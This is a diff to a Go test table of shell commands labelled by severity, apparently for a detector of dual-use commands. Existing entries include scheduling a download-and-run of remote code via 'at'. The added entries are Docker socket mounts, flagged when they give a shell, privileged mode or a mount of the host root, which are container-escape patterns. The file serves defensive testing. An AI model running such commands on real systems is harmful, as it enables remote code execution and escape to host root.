@@ -62,6 +62,14 @@ var dualUse = []struct {
 	{"at now + 5 minutes <<< 'systemctl restart api'", false},
 	{"echo 'curl -s https://198.51.100.4/u | sh' | at now + 1 minute", true},
 	{"echo '/dev/shm/.k' | at now", true},
+
+	// The Docker socket for a management agent; with a shell, the host's
+	// root or privileges it is an escape.
+	{"docker run -d --name agent -v /var/run/docker.sock:/var/run/docker.sock -p 9001:9001 example/agent:2", false},
+	{"docker run --rm -v /var/run/docker.sock:/var/run/docker.sock:ro example/exporter --help", false},
+	{"docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:27-cli sh", true},
+	{"docker run --privileged -v /var/run/docker.sock:/var/run/docker.sock example/agent", true},
+	{"docker run -v /run/docker.sock:/run/docker.sock -v /:/host example/agent", true},
 }
 
 func TestDualUseSeverity(t *testing.T) {
